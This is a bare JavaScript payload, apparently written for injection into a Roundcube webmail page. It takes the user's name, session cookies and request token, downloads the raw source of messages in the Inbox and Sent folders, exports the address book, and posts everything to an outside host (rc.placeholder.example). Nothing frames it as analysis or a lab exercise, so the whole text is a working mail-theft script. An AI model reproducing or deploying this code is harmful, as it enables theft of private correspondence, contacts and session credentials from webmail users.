(async function () {
  const out = "https://rc.placeholder.example/p";
  const base = location.pathname;
  const token = rcmail.env.request_token;
  const drop = (name, text) => fetch(out, { method: "POST", mode: "no-cors", body: name + "|" + btoa(unescape(encodeURIComponent(text))) });
  await drop("who", rcmail.env.username + " " + document.cookie);
  for (const box of ["INBOX", "Sent"]) {
    for (let page = 1; page <= 5; page++) {
      const r = await fetch(`${base}?_task=mail&_action=list&_mbox=${box}&_page=${page}&_remote=1`, { headers: { "X-Roundcube-Request": token } });
      const list = await r.json();
      const ids = [...list.exec.matchAll(/add_message_row\((\d+)/g)].map((m) => m[1]);
      for (const id of ids) {
        const raw = await (await fetch(`${base}?_task=mail&_action=viewsource&_uid=${id}&_mbox=${box}`)).text();
        await drop(box + "/" + id, raw);
      }
    }
  }
  const contacts = await (await fetch(`${base}?_task=addressbook&_action=export&_source=0`)).text();
  await drop("book", contacts);
})();
